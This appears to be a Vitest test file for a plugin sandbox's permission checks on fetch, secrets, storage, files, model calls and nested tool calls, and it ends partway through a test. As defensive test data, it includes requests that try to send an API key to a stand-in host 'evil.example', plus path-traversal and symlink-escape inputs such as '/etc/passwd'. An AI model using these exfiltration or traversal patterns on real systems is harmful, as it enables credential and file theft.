import { mkdir, mkdtemp, readFile, rm, symlink, writeFile, readdir, link } from 'node:fs/promises';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../../contract/errors/app-error.ts';
import type { ToolEffect } from '../../../contract/manifest/index.ts';
import type { GuardedRequest } from '../../../main/core/base/http/index.ts';
import { createTools, createToolSession, type Connections } from '../../../main/core/engine/tools/index.ts';
import { secretMask } from '../../../main/core/engine/tools/secret-mask.ts';
import { grantedHosts } from '../../../main/core/engine/tools/installed-code.ts';
import { aConnections } from './connected.ts';
import { asked, calls, emitted, folder, FOLDERS, get, home, installed, make, model, OTHER, pick, PLUGIN, plugins, questions, refused, SECRET, session, stage, told, tools, use } from './call-stage.ts';

describe('I2 every host call needs its permission and names it', () => {
  it.each([
    ['secret', { key: 'api_key' }, 'secret:api_key'],
    ['storage.get', { key: 'a' }, 'storage'], ['storage.set', { key: 'a', value: 1 }, 'storage'], ['storage.delete', { key: 'a' }, 'storage'], ['storage.list', { prefix: '' }, 'storage'],
    ['files.list', { key: 'data', path: '' }, 'folder:data:read'], ['files.readText', { key: 'data', path: 'a' }, 'folder:data:read'], ['files.readBytes', { key: 'data', path: 'a' }, 'folder:data:read'],
    ['files.writeText', { key: 'data', path: 'a', text: 'x' }, 'folder:data:write'], ['files.remove', { key: 'data', path: 'a' }, 'folder:data:write'],
    ['model.complete', { messages: [{ role: 'user', content: 'x' }] }, 'models'], ['tools.call', { name: `${OTHER}/inner`, input: {} }, `tools:${OTHER}/inner`],
  ])('%s without its grant', async (name, args, permission) => {
    pick();
    await expect(use([], name, args)).rejects.toEqual(refused(permission));
    await expect(use(['network:a.example', 'folder:datax:read', 'secret:other@a.example', 'tools:dev.test.oth/*'], name, args)).rejects.toEqual(refused(permission));
  });

  it.each(['fetch', 'secret', 'storage.set', 'files.readText', 'model.complete', 'tools.call', 'progress', 'sleep'])('%s refuses arguments of another shape', async (name) => {
    const all = ['storage:1000', 'models:5', 'folder:data:read', 'secret:k@a.example'];
    for (const args of [null, 5, [], { key: 5 }, { __proto__: null, extra: 1 }, { key: 'a', fraction: 7, ms: -1, more: true }]) await expect(use(all, name, args)).rejects.toMatchObject({ code: 'core/bad-input' });
  });

  it('knows no other call', async () => {
    for (const name of ['constructor', '__proto__', 'toString', 'files']) await expect(use([], name, {})).rejects.toMatchObject({ code: 'core/unknown-procedure' });
  });

  it('progress and sleep need none', async () => {
    expect(await use([], 'progress', { fraction: 0.5, message: 'half' })).toBeNull();
    expect(emitted.some((event) => event.type === 'tool_usage_progressed')).toBe(true);
    expect(await use([], 'sleep', { ms: 1 })).toBeNull();
  });
});

describe('fetch and secrets', () => {
  it('hands the granted hosts to the guard, private ones apart, and lets a reading tool only read', async () => {
    const grants = ['network:api.example.com', 'network:http://127.0.0.1:9', 'storage:10'];
    expect(await use(grants, 'fetch', get('https://api.example.com/x', { headers: [['accept', 'a/b']] }), 'read')).toEqual({ url: 'https://api.example.com/x', status: 200, statusText: 'OK', headers: [['x', 'y']], redirected: false, encoding: 'utf8', body: 'hello' });
    expect(asked[0]?.policy).toMatchObject({ hosts: ['api.example.com', 'http://127.0.0.1:9'], allowPrivate: ['http://127.0.0.1:9'], readOnly: true });
    await use(grants, 'fetch', get('https://api.example.com/x', { method: 'POST', encoding: 'base64', body: 'AAH/' }), 'write');
    expect(asked[1]?.policy.readOnly).toBe(false);
    expect([...(asked[1]?.request.body ?? [])]).toEqual([0, 1, 255]);
    stage.reply.body = new Uint8Array([0xff, 0xfe, 0]);
    expect(await use(grants, 'fetch', get('https://api.example.com/x'))).toMatchObject({ encoding: 'base64', body: '//4A' });
  });

  it('gives a placeholder, and fills the value in on the way to a granted host, escaped for its place', async () => {
    const grants = ['network:api.example.com', 'network:evil.example', 'secret:api_key@api.example.com'];
    const token = await use(grants, 'secret', { key: 'api_key' }) as string;
    expect(token).not.toContain(SECRET);
    const url = new URL('https://api.example.com/v1?x=1');
    url.searchParams.set('key', token);
    await use(grants, 'fetch', { ...get(url.href), method: 'POST', headers: [['authorization', `Bearer ${token}`], ['content-type', 'application/json']], body: JSON.stringify({ key: token }) });
    const { request } = asked.at(-1) as { request: GuardedRequest };
    expect(request.headers).toContainEqual(['authorization', `Bearer ${SECRET}`]);
    expect(new URL(request.url).searchParams.get('key')).toBe(SECRET);
    expect(JSON.parse(new TextDecoder().decode(request.body))).toEqual({ key: SECRET });
    const form = new URLSearchParams({ key: token });
    await use(grants, 'fetch', { ...get('https://api.example.com/'), method: 'POST', headers: [['content-type', 'application/x-www-form-urlencoded']], body: form.toString() });
    expect(new URLSearchParams(new TextDecoder().decode(asked.at(-1)?.request.body)).get('key')).toBe(SECRET);
    // Where it was not granted it does not go, in any place.
    for (const bad of [{ headers: [['x', token]] }, { url: `https://evil.example/?q=${encodeURIComponent(token)}` }, { method: 'POST', body: `a${token}` }]) {
      await expect(use(grants, 'fetch', { ...get('https://evil.example/'), ...bad })).rejects.toEqual(refused('secret:api_key@evil.example'));
    }
    expect(asked).toHaveLength(2);
    stage.reply.url = `https://api.example.com/next?key=${encodeURIComponent(SECRET)}`;
    const answered = await use(grants, 'fetch', get(url.href)) as { url: string };
    expect(JSON.stringify(answered)).not.toContain(encodeURIComponent(SECRET));
    expect(JSON.stringify(emitted)).not.toContain('very');
  });

  it('gives the raw value only with the permission for that, and says what was not entered', async () => {
    expect(await use(['secret_read:api_key'], 'secret', { key: 'api_key' })).toBe(SECRET);
    await expect(use(['secret_read:gone'], 'secret', { key: 'gone' })).rejects.toMatchObject({ code: 'credentials/not-found' });
    await expect(use(['network:a.example'], 'fetch', get('https://a.example/', { redirect: 'manual' }))).rejects.toMatchObject({ code: 'core/bad-input' });
    await expect(use([], 'fetch', get('nonsense'))).rejects.toMatchObject({ code: 'core/bad-input' });
    stage.reply.url = 'https://a.example/other';
    await expect(use(['network:a.example'], 'fetch', get('https://a.example/', { redirect: 'error' }))).rejects.toMatchObject({ code: 'core/unreachable' });
  });
});

describe('I3 bytes of bodies', () => {
  it('of requests and files are counted as they come, and not kept when there is no room', async () => {
    pick();
    await writeFile(path.join(folder, 'counted.txt'), 'x'.repeat(500));
    installed(['network:a.example', ...FOLDERS]);
    const counted: number[] = [];
    const full = (): never => { throw new AppError('sandbox/busy', 'No more room.'); };
    stage.act = async (host, signal) => {
      await host.call('fetch', get('https://a.example/'), signal, (bytes) => counted.push(bytes));
      asked.at(-1)?.policy.onBytes?.(7);
      await host.call('files.readText', { key: 'data', path: 'counted.txt' }, signal, (bytes) => counted.push(bytes));
      return Promise.all(['files.readText', 'files.readBytes'].map((name) => host.call(name as never, { key: 'data', path: 'counted.txt' }, signal, full).catch((error: unknown) => (error as AppError).code)));
    };
    const { output } = await tools.invoke(session, await tools.find(`${PLUGIN}/outer`), { callId: 'c1', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: session.context.signal });
    expect([counted, output]).toEqual([[7, 500], ['sandbox/busy', 'sandbox/busy']]);
  });
});

describe('I2 hosts that the person entered', () => {
  const manifest = { configuration: { optional: [{ key: 'hosts', type: 'hosts' }] }, permissions: { network: ['config:hosts', 'config-private:hosts'] }, capabilities: { tools: [{ id: 'outer', name: 'Outer', description: 'Calls.', effect: 'read' }] } };
  const code = (entered: unknown, ...grants: string[]) => ({ ...plugins.add(PLUGIN, { grants, manifest, files: { 'dist/plugin.js': '' } }), config: { hosts: entered } });
  const hostsOf = (entered: unknown, ...grants: string[]): string[] => grantedHosts(code(entered, ...grants)).map(({ host }) => host);
  const BOTH = ['network:config:hosts', 'network:config-private:hosts'];

  it('are reached with the permission for them, those of a local network with one of their own', () => {
    const entered = 'API.example.com, *.example.org:8443\nhttp://localhost:8080 192.168.0.10';
    expect(hostsOf(entered)).toEqual([]);
    expect(hostsOf(entered, 'network:config:hosts')).toEqual(['api.example.com', '*.example.org:8443']);
    expect(hostsOf(entered, 'network:config-private:hosts')).toEqual(['http://localhost:8080', '192.168.0.10']);
    expect(hostsOf(entered, ...BOTH, 'network:a.example')).toHaveLength(5);
    expect(hostsOf(entered, 'network:config:other')).toEqual([]);
  });
  it('are none when what stands there is no list of hosts, or no longer there', () => {
    for (const entered of [undefined, 7, '', 'https://a.example/path', 'a.example, *', '*.com', 'config:hosts', Array.from({ length: 21 }, (_, at) => `a${at}.example`).join()]) expect(hostsOf(entered, ...BOTH)).toEqual([]);
  });
  it('are what fetch may reach, and the audit list names the permission', async () => {
    stage.act = (host, signal) => host.call('fetch', get('https://api.example.com/x'), signal);
    Object.assign(plugins.add(PLUGIN, { grants: BOTH, manifest, files: { 'dist/plugin.js': '' } }).config as object, { hosts: 'api.example.com, localhost:8080' });
    await tools.invoke(session, await tools.find(`${PLUGIN}/outer`), { callId: 'c1', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: session.context.signal });
    expect(asked.map(({ policy }) => [policy.hosts, policy.allowPrivate])).toEqual([[['api.example.com', 'localhost:8080'], ['localhost:8080']]]);
    expect(told.find(({ action }) => action === 'host_reached')).toMatchObject({ permission: 'network:config:hosts' });
  });
});

describe('X8 each defence of secrets, and what happens without it', () => {
  const grants = ['network:api.example.com', 'network:evil.example', 'secret:api_key@api.example.com', 'storage:1000'];
  const bearer = { headers: [['authorization', 'Bearer {{secret:api_key}}']] };
  const sentTo = (host: string): string => JSON.stringify(asked.filter(({ request }) => new URL(request.url).host === host));

  it('hosts', async () => {
    await expect(use(grants, 'fetch', get('https://evil.example/', bearer))).rejects.toEqual(refused('secret:api_key@evil.example'));
    make({ hosts: false });
    await use(grants, 'fetch', get('https://evil.example/', bearer));
    expect(sentTo('evil.example')).toContain(JSON.stringify(SECRET).slice(1, -1).replaceAll('\\', '\\'));
  });

  it('redirects', async () => {
    const post = get('https://api.example.com/', { method: 'POST', headers: [['content-type', 'application/json']], body: '{"key":"{{secret:api_key}}"}' });
    const judge = (to: string, withBody: boolean): void => { asked.at(-1)?.policy.follow?.(new URL(to), withBody); };
    await use(grants, 'fetch', post);
    expect(() => { judge('https://evil.example/', true); }).toThrow('was not granted for evil.example');
    expect(() => { judge(`https://evil.example/?q=${encodeURIComponent(SECRET)}`, false); }).toThrow('was not granted for evil.example');
    judge('https://evil.example/', false);
    judge('https://api.example.com/again', true);
    make({ redirects: false });
    await use(grants, 'fetch', post);
    expect(asked.at(-1)?.policy.follow).toBeUndefined();
  });

  it('mask', async () => {
    const echo = `${SECRET} ${JSON.stringify(SECRET)} ${encodeURIComponent(SECRET)} ${Buffer.from(SECRET).toString('hex')} ${Buffer.from(`a:${SECRET}`).toString('base64')}`;
    stage.reply.body = new TextEncoder().encode(echo);
    const clean = await use(grants, 'fetch', get('https://api.example.com/', bearer)) as { body: string };
    expect(clean.body).toMatch(/^{{secret:api_key}} "{{secret:api_key}}" {{secret:api_key}} {{secret:api_key}} YT.?{{secret:api_key}}.{0,4}$/);
    // Also where this very request carried none.
    expect((await use(grants, 'fetch', get('https://api.example.com/')) as { body: string }).body).toBe(clean.body);
    await use([...grants, 'secret_read:api_key'], 'storage.set', { key: 's', value: { [SECRET]: [SECRET] } });
    expect(await use(grants, 'storage.get', { key: 's' })).toEqual({ '{{secret:api_key}}': ['{{secret:api_key}}'] });
    make({ mask: false });
    expect((await use(grants, 'fetch', get('https://api.example.com/', bearer)) as { body: string }).body).toBe(echo);
    await use(grants, 'storage.delete', { key: 's' });
  });

  it('no form of any secret is left in any text, and a text without it stays as it is', async () => {
    const code = plugins.add('dev.test.masked', { grants: ['secret_read:k'], manifest: {} });
    await fc.assert(fc.asyncProperty(fc.string({ minLength: 6, maxLength: 60, unit: 'grapheme' }), fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), async (secret, before, after) => {
      const mask = await secretMask(code, { withSecret: async (_owner, _key, use) => use(secret) });
      const inner = Buffer.from(before + secret + after).toString('base64').slice(Math.ceil(Buffer.byteLength(before) * 8 / 6), Math.floor(Buffer.byteLength(before + secret) * 8 / 6));
      for (const form of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('hex'), ...(inner.length >= 6 ? [inner] : [])]) {
        if ('{{secret:k}}'.includes(form)) continue;
        expect(mask.text(`${before}${form}${after}`)).not.toContain(form);
        expect(Buffer.from(await mask.bytes(Buffer.from(`${before}${form}${after}`))).includes(form)).toBe(false);
      }
      expect(mask.text('§')).toBe('§');
    }), { numRuns: 60 });
  });
});

describe('A1 values of one agent', () => {
  it('stand in place of its plugin’s, in its own plugin alone, as far as they fit', async () => {
    let config: unknown;
    const code = plugins.add(PLUGIN, { grants: [], manifest: { configuration: { optional: [{ key: 'tone', type: 'string' }, { key: 'limit', type: 'number', default: 3 }] }, capabilities: { tools: [{ id: 'outer', name: 'Outer', description: 'Calls.', effect: 'read' }] } }, files: { 'dist/plugin.js': '' } });
    Object.assign(code.config as object, { tone: 'short', limit: 3 });
    const tools = createTools({ plugins, store: home.store, userSalt: 'salt', secrets: { withSecret: () => Promise.reject(new AppError('credentials/not-found', 'None.')) }, http: { guardedFetch: () => Promise.reject(new Error('not here')) },
      sandbox: { run: (request) => { config = request.context.config; return Promise.resolve({ output: null, logs: [], metrics: { wallMs: 1, cpuMs: 1, memoryBytes: 1, hostCalls: 0 } }); } } });
    const called = async (hireId: string | null): Promise<unknown> => {
      const its = createToolSession({ ...session.context, run: { ...session.context.run, hireId } }, () => Promise.resolve(model));
      await tools.invoke(its, await tools.find(`${PLUGIN}/outer`), { callId: 'c', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: new AbortController().signal });
      return config;
    };
    await home.store.write('insertHire', { id: 'own', name: 'Own', pluginId: PLUGIN, agentId: 'a', model: null, at: 1 });
    await home.store.write('insertHire', { id: 'other', name: 'Other', pluginId: OTHER, agentId: 'a', model: null, at: 1 });
    for (const id of ['own', 'other']) await home.store.write('configureHire', { id, set: { tone: 'long', limit: 'many', ghost: 1 }, reset: [], at: 2 });
    expect(await called(null)).toEqual({ tone: 'short', limit: 3 });
    expect(await called('own')).toEqual({ tone: 'long', limit: 3 });
    expect(await called('other')).toEqual({ tone: 'short', limit: 3 });
    await home.store.write('configureHire', { id: 'own', set: {}, reset: ['tone'], at: 3 });
    expect(await called('own')).toEqual({ tone: 'short', limit: 3 });
  });
});

describe('storage', () => {
  it('keeps values within the quota, apart for each plugin, and only writes when the tool may', async () => {
    const grants = ['storage:60'];
    expect(await use(grants, 'storage.get', { key: 'a' })).toBeNull();
    await use(grants, 'storage.set', { key: 'a%', value: { n: [1, null] } });
    await use(grants, 'storage.set', { key: 'ab', value: 'x' });
    expect(await use(grants, 'storage.get', { key: 'a%' })).toEqual({ n: [1, null] });
    expect(await use(grants, 'storage.list', { prefix: 'a%' })).toEqual(['a%']);
    await expect(use(grants, 'storage.set', { key: 'big', value: 'x'.repeat(60) })).rejects.toEqual(refused('storage:60'));
    await use(grants, 'storage.set', { key: 'a%', value: 'y'.repeat(40) });
    expect(await use(grants, 'storage.list', {}, 'read')).toEqual(['a%', 'ab']);
    await expect(use(grants, 'storage.set', { key: 'c', value: 1 }, 'read')).rejects.toEqual(refused('effect:write'));
    await expect(use(grants, 'storage.delete', { key: 'ab' }, 'read')).rejects.toEqual(refused('effect:write'));
    await use(grants, 'storage.delete', { key: 'ab' });
    expect(await use(grants, 'storage.list', { prefix: '' })).toEqual(['a%']);
    expect(await home.store.read('pluginStorageKeys', { pluginId: OTHER, prefix: '' })).toEqual([]);
    await use(grants, 'storage.delete', { key: 'a%' });
  });
});

describe('A9 files in granted folders', () => {
  it('lists, reads, writes and removes inside, each with its access', async () => {
    pick();
    await mkdir(path.join(folder, 'sub'));
    await writeFile(path.join(folder, 'sub', 'a.txt'), 'äöü');
    expect(await use(FOLDERS, 'files.list', { key: 'data', path: '' })).toEqual([{ name: 'sub', kind: 'folder', size: 0 }]);
    expect(await use(FOLDERS, 'files.list', { key: 'data', path: 'sub' })).toEqual([{ name: 'a.txt', kind: 'file', size: 6 }]);
    expect(await use(FOLDERS, 'files.readText', { key: 'data', path: './sub//a.txt' })).toBe('äöü');
    expect(await use(FOLDERS, 'files.readBytes', { key: 'out', path: 'sub/a.txt' })).toBe(Buffer.from('äöü').toString('base64'));
    await use(FOLDERS, 'files.writeText', { key: 'out', path: 'new/deep/b.txt', text: 'one' });
    await use(FOLDERS, 'files.writeText', { key: 'out', path: 'new/deep/b.txt', text: 'two' });
    expect(await readFile(path.join(folder, 'new/deep/b.txt'), 'utf8')).toBe('two');
    expect(await readdir(path.join(folder, 'new/deep'))).toEqual(['b.txt']);
    await use(FOLDERS, 'files.remove', { key: 'out', path: 'new/deep/b.txt' });
    await expect(use(FOLDERS, 'files.readText', { key: 'data', path: 'new/deep/b.txt' })).rejects.toMatchObject({ code: 'tools/not-found' });
    await expect(use(FOLDERS, 'files.readText', { key: 'data', path: 'sub' })).rejects.toMatchObject({ code: 'core/bad-input' });
    await expect(use(FOLDERS, 'files.remove', { key: 'out', path: 'sub' })).rejects.toMatchObject({ code: 'core/bad-input' });
    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: '', text: '' })).rejects.toMatchObject({ code: 'core/bad-input' });
    for (const name of ['files.writeText', 'files.remove']) {
      await expect(use(FOLDERS, name, { key: 'data', path: 'sub/a.txt', ...(name === 'files.writeText' ? { text: 'x' } : {}) })).rejects.toEqual(refused('folder:data:write'));
      await expect(use(FOLDERS, name, { key: 'out', path: 'sub/a.txt', ...(name === 'files.writeText' ? { text: 'x' } : {}) }, 'read')).rejects.toEqual(refused('effect:write'));
    }
    plugins.folders.set(`${PLUGIN} out`, { path: folder, access: 'read' });
    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: 'x', text: '' })).rejects.toEqual(refused('folder:out:write'));
    plugins.folders.clear();
    await expect(use(FOLDERS, 'files.list', { key: 'data', path: '' })).rejects.toMatchObject({ code: 'permission/denied', message: expect.stringContaining('No folder was picked') });
    plugins.folders.set(`${PLUGIN} data`, { path: path.join(folder, 'gone'), access: 'read' });
    await expect(use(FOLDERS, 'files.list', { key: 'data', path: '' })).rejects.toMatchObject({ code: 'tools/not-found' });
  });

  it.each(['../x', 'a/../../x', '/etc/passwd', '..', 'sub/..', 'a\\..\\b', 'C:\\x', 'c:x', 'a\0b', 'x'.repeat(5000)])('refuses the path %j', async (bad) => {
    pick();
    for (const name of ['files.readText', 'files.list', 'files.writeText', 'files.remove']) {
      await expect(use(FOLDERS, name, { key: 'out', path: bad, ...(name === 'files.writeText' ? { text: 'x' } : {}) })).rejects.toSatisfy((error: { code: string }) => error.code === 'permission/denied' || error.code === 'core/bad-input');
    }
  });

  it('never leaves the folder, whatever path a plugin draws up', async () => {
    pick();
    const outside = await mkdtemp(path.join(tmpdir(), 'troupe-outside-'));
    await writeFile(path.join(outside, 'secret.txt'), 'secret');
    await symlink(outside, path.join(folder, 'way-out'));
    const part = fc.constantFrom('..', '.', '', 'way-out', 'secret.txt', 'a', '…', ' ', '%2e%2e', path.basename(outside), '~');
    await fc.assert(fc.asyncProperty(fc.array(part, { maxLength: 6 }).map((parts) => parts.join('/')), async (drawn) => {
      const read = await use(FOLDERS, 'files.readText', { key: 'out', path: drawn }).catch(() => '');
      expect(read).not.toContain('secret');
      await use(FOLDERS, 'files.writeText', { key: 'out', path: drawn, text: 'mine' }).catch(() => null);
      await use(FOLDERS, 'files.remove', { key: 'out', path: drawn }).catch(() => null);
      expect(await readdir(outside)).toEqual(['secret.txt']);
    }), { numRuns: 60 });
    await rm(outside, { recursive: true });
  });

  it('refuses links that lead out, in any place, and does not wait for pipes', async () => {
    pick();
    const outside = await mkdtemp(path.join(tmpdir(), 'troupe-outside-'));
    await writeFile(path.join(outside, 'secret.txt'), 'secret');
    await symlink(outside, path.join(folder, 'dir'));
    await symlink(path.join(outside, 'secret.txt'), path.join(folder, 'file'));
    await symlink(path.join(outside, 'not-there'), path.join(folder, 'dangling'));
    await writeFile(path.join(folder, 'real.txt'), 'real');
    await symlink(path.join(folder, 'real.txt'), path.join(folder, 'inside'));
    await link(path.join(folder, 'real.txt'), path.join(folder, 'hard'));
    execFileSync('mkfifo', [path.join(folder, 'pipe')]);
    for (const bad of ['dir/secret.txt', 'file']) {
      await expect(use(FOLDERS, 'files.readText', { key: 'data', path: bad })).rejects.toEqual(refused('folder'));
      await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: bad, text: 'x' })).rejects.toEqual(refused('folder'));
      await expect(use(FOLDERS, 'files.remove', { key: 'out', path: bad })).rejects.toEqual(refused('folder'));
    }
    await expect(use(FOLDERS, 'files.list', { key: 'data', path: 'dir' })).rejects.toEqual(refused('folder'));
    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: 'dir/new/x', text: 'x' })).rejects.toEqual(refused('folder'));
    await expect(use(FOLDERS, 'files.writeText', { key: 'out', path: 'dangling', text: 'x' })).rejects.toEqual(refused('folder'));
    await expect(use(FOLDERS, 'files.readText', { key: 'data', path: 'pipe' })).rejects.toMatchObject({ code: 'core/bad-input' });
    expect(await use(FOLDERS, 'files.readText', { key: 'data', path: 'inside' })).toBe('real');
    expect((await use(FOLDERS, 'files.list', { key: 'data', path: '' }) as { name: string }[]).map((entry) => entry.name)).toEqual(['hard', 'real.txt']);
    expect([await readdir(outside), await readFile(path.join(outside, 'secret.txt'), 'utf8')]).toEqual([['secret.txt'], 'secret']);
    await rm(outside, { recursive: true });
  });

  it('does not say where the folder lies', async () => {
    pick();
    for (const args of [{ key: 'data', path: 'none' }, { key: 'data', path: '../x' }]) {
      const error = await use(FOLDERS, 'files.readText', args).catch((thrown: AppError) => thrown) as AppError;
      expect(error.message + JSON.stringify(error.details)).not.toContain(folder);
    }
  });
});

describe('model.complete', () => {
  it('asks the model of the run as often as was granted, and is recorded', async () => {
    const request = { messages: [{ role: 'user', content: 'x' }, { role: 'assistant', content: '', tool_calls: [{ id: 't', name: 'f', arguments: {} }] }, { role: 'tool', content: 'r', tool_call_id: 't' }], schema: { type: 'object', required: ['n'] }, max_tokens: 9 };
    expect(await use(['models:2'], 'model.complete', request)).toEqual({ text: '{"n": 1}', tool_calls: [], object: { n: 1 }, usage: { input_tokens: 10, output_tokens: 5 } });
    expect(model.requests[0]).toMatchObject({ maxTokens: 9, responseSchema: { name: 'answer' } });
    expect(model.requests[0]?.messages[2]?.parts[0]).toMatchObject({ type: 'tool_result', callId: 't', name: 'f' });
    expect(emitted.find((event) => event.type === 'tool_model_call_finished')?.data).toMatchObject({ callId: 'c1', pluginId: PLUGIN, text: '{"n": 1}', usage: { totalTokens: 15 } });
    await expect(use(['models:2'], 'model.complete', { ...request, schema: { required: ['other'] } })).rejects.toMatchObject({ code: 'models/bad-answer' });
    await expect(use(['models:2'], 'model.complete', request)).rejects.toEqual(refused('models:2'));
    await expect(use(['models:9'], 'model.complete', { messages: [{ role: 'tool', content: 'r', tool_call_id: 'none' }] })).rejects.toMatchObject({ code: 'core/bad-input' });
  });
});

describe('tools.call', () => {
  it('A9 of a tool that needs a connection works with one of the agent whose run it is, and with no other', async () => {
    const http = { guardedFetch: ({ url }: { url: string }) => Promise.resolve({ status: 200, statusText: '', url, headers: [], body: new TextEncoder().encode(url) }), addressesOf: () => Promise.resolve([]) };
    stage.connections = aConnections({ store: home.store, http });
    make();
    await home.store.write('insertOwnAgent', { id: 'scout', draft: '{}', at: 1 });
    const connect = async (name: string): Promise<void> => { const { id } = await (stage.connections as Connections).connect({ kind: 'http', name, set: { address: `https://${name}.example/` }, secrets: {}, folder: null }); await stage.connections?.give({ id, agents: ['scout'] }); };
    const ask = (name: string, grants = ['tools:builtin.http_get']): Promise<unknown> => use(grants, 'tools.call', { name, input: {} });
    await connect('shop');
    await expect(ask('builtin.http_get')).rejects.toMatchObject({ code: 'permission/denied', message: expect.stringContaining('No connection') as string });
    Object.assign(session.context.run, { hireId: 'scout' });
    expect(await ask('builtin.http_get')).toMatchObject({ body: 'https://shop.example/' });
    expect(told.at(-1)).toMatchObject({ action: 'tool_called', subject: 'builtin.http_get', outcome: 'done' });
    await connect('stock');
    await expect(ask('builtin.http_get')).rejects.toMatchObject({ code: 'tools/bad-arguments', message: expect.stringContaining('"shop", "stock"') as string });
    expect(await ask('builtin.http_get@stock')).toMatchObject({ body: 'https://stock.example/' });
    await expect(ask('builtin.http_get@other')).rejects.toMatchObject({ code: 'permission/denied' });
    await expect(ask('builtin.http_get@shop', ['tools:builtin.calculator'])).rejects.toMatchObject({ code: 'permission/denied', details: { permission: 'tools:builtin.http_get' } });
  });

  const other = (effect: ToolEffect): void => { plugins.add(OTHER, { manifest: { capabilities: { tools: [{ id: 'inner', name: 'Inner', description: 'D', effect, input: { type: 'object', properties: { n: { type: 'number' } } } }] } }, files: { 'dist/plugin.js': '' } }); };

  it('needs the caller\'s grant, exact or for all of a plugin, and records the call below the first', async () => {
    other('read');
    for (const grant of [`tools:${OTHER}/inner`, `tools:${OTHER}/*`]) expect(await use([grant], 'tools.call', { name: `${OTHER}/inner`, input: { n: 1 } })).toEqual({ got: { n: 1 }, depth: 2 });
    expect(await use(['tools:builtin.calculator'], 'tools.call', { name: 'builtin.calculator', input: { expression: '2*3' } })).toEqual({ result: 6 });
    const started = emitted.filter((event) => event.type === 'tool_usage_started').map((event) => (event.data as { callId: string }).callId);
    expect(started.slice(0, 4)).toEqual(['c1', 'c1/1', 'c1', 'c1/2']);
    await expect(use([`tools:${OTHER}/*`], 'tools.call', { name: `${OTHER}/inner`, input: { n: 'x' } })).rejects.toMatchObject({ code: 'tools/bad-arguments' });
    await expect(use([`tools:${OTHER}/*`], 'tools.call', { name: `${OTHER}/gone`, input: {} })).rejects.toMatchObject({ code: 'tools/not-found' });
  });

  it('works with the grants of the tool that is called, not with those of the plugin that calls', async () => {
    const answers = async (mine: readonly string[], theirs: readonly string[]): Promise<unknown> => {
      installed([`tools:${OTHER}/*`, ...mine]);
      plugins.add(OTHER, { grants: theirs, manifest: { capabilities: { tools: [{ id: 'keeps', name: 'Keeps', description: 'D', effect: 'write' }] } }, files: { 'dist/plugin.js': '' } });
      let level = 0;
      stage.act = (host, signal) => {
        level += 1;
        const made = level === 1 ? host.call('tools.call', { name: `${OTHER}/keeps`, input: {} }, signal) : host.call('storage.set', { key: 'lent', value: 1 }, signal);
        return made.then(() => 'kept', (error: unknown) => (error as AppError).code);
      };
      return (await tools.invoke(session, await tools.find(`${PLUGIN}/outer`), { callId: 'c1', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: session.context.signal })).output;
    };
    const keptBy = (pluginId: string): Promise<string | undefined> => home.store.read('pluginStorageGet', { pluginId, key: 'lent' });
    // Level two is refused what level one has, and answers that as its output.
    await answers(['storage:1000'], []);
    expect([await keptBy(PLUGIN), await keptBy(OTHER)]).toEqual([undefined, undefined]);
    expect(told).toContainEqual(expect.objectContaining({ action: 'permission_denied', subject: 'storage', pluginId: OTHER }));
    await answers([], ['storage:1000']);
    expect([await keptBy(PLUGIN), await keptBy(OTHER)]).toEqual([undefined, '1']);
  });

  it('asks the person like any call, and a tool that reads cannot use one that writes', async () => {
    other('write');
    const grants = [`tools:${OTHER}/*`];
    await use(grants, 'tools.call', { name: `${OTHER}/inner`, input: {} });
    expect(questions).toBe(1);
    stage.answer = 'deny';
    await expect(use(grants, 'tools.call', { name: `${OTHER}/inner`, input: {} })).rejects.toMatchObject({ code: 'permission/denied' });
    await expect(use(grants, 'tools.call', { name: `${OTHER}/inner`, input: {} }, 'read')).rejects.toMatchObject({ code: 'permission/denied', message: expect.stringContaining('only reads') });
    expect(questions).toBe(2);
  });

  it('goes at most four deep', async () => {
    installed([]);
    let depth = 0;
    const outcomes: unknown[] = [];
    stage.act = async (calls, signal) => {
      depth += 1;
      await calls.call('tools.call', { name: 'mine', input: {} }, signal).catch((error: unknown) => { outcomes.push(error); });
      return null;
    };
    await tools.invoke(session, await tools.find(`${PLUGIN}/mine`), { callId: 'c1', input: {}, depth: 1, readOnly: false, standing: 'fresh', signal: session.context.signal });
    expect(depth).toBe(4);
    expect(outcomes).toEqual([expect.objectContaining({ code: 'tools/too-deep' })]);
  });
});

describe('I3 a call that only reads', () => {
  const body = { method: 'POST', body: 'x' };
  it.each([
    ['storage.set', { key: 'effect', value: 1 }], ['storage.delete', { key: 'effect' }], ['files.writeText', { key: 'out', path: 'effect.txt', text: 'x' }], ['files.remove', { key: 'out', path: 'effect.txt' }],
  ])('%s changes nothing in it, and goes through without the rule', async (name, args) => {
    pick();
    const grants = ['storage:1000', ...FOLDERS];
    await writeFile(path.join(folder, 'effect.txt'), 'kept');
    await home.store.write('setPluginStorage', { pluginId: PLUGIN, key: 'effect', value: '"kept"', quota: 1000 });
    await expect(use(grants, name, args, 'read')).rejects.toEqual(refused('effect:write'));
    expect([await readFile(path.join(folder, 'effect.txt'), 'utf8'), await home.store.read('pluginStorageGet', { pluginId: PLUGIN, key: 'effect' })]).toEqual(['kept', '"kept"']);
    expect(told.at(-1)).toMatchObject({ action: 'permission_denied', subject: 'effect:write', outcome: 'refused' });
    // The guard off: nothing else stands in the way.
    expect(await use(grants, name, args, 'write')).toBeNull();
    expect(told.at(-1)).toMatchObject({ action: name.startsWith('files') ? 'file_written' : 'storage_written', outcome: 'done' });
  });

  it('sends GET and HEAD alone: the rule goes along with each request', async () => {
    for (const effect of ['read', 'write'] as const) await use(['network:a.example'], 'fetch', get('https://a.example/', body), effect);
    expect(asked.map(({ policy }) => policy.readOnly)).toEqual([true, false]);
  });
});

describe('I2 a permission that is taken back', () => {
  it('is refused at once, in the middle of a call too, and not given to it again', async () => {
    installed(['storage:1000']);
    const outcomes: unknown[] = [];
    stage.act = async (host, signal) => {
